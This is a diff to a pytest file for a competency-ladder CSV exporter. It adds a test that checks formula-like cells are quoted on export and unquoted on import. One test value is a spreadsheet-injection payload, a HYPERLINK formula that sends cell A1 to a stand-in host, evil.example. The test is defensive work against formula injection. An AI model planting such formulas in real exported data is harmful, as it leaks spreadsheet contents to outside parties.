@@ -2,6 +2,10 @@
 
 from __future__ import annotations
 
+import csv
+import io
+from dataclasses import replace
+
 import pytest
 
 from app.ladders.formats import LadderFormatError, export_csv, parse
@@ -117,3 +121,18 @@ def test_export_writes_names_and_joined_tracks():
         "track,level,category,competency,description,examples,key,track_key,level_key,category_key"
     )
     assert lines[1].startswith("ic|manager,Engineer I,Craft,Writes tests,")
+
+
+@pytest.mark.parametrize(
+    "title",
+    ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+1", "-2+3", "@SUM(A1)", "'=x"],
+)
+def test_export_quotes_cells_a_spreadsheet_would_run_and_import_unquotes_them(title):
+    spec = parse_csv(CSV)
+    first = replace(spec.competencies[0], title=title, description=title, examples=(title,))
+    spec = replace(spec, competencies=(first, *spec.competencies[1:]))
+    text = export_csv(spec)
+    row = next(csv.DictReader(io.StringIO(text)))
+    assert row["competency"] == row["description"] == row["examples"] == "'" + title
+    back = parse_csv(text).competencies[0]
+    assert (back.title, back.description, back.examples) == (title, title, (title,))
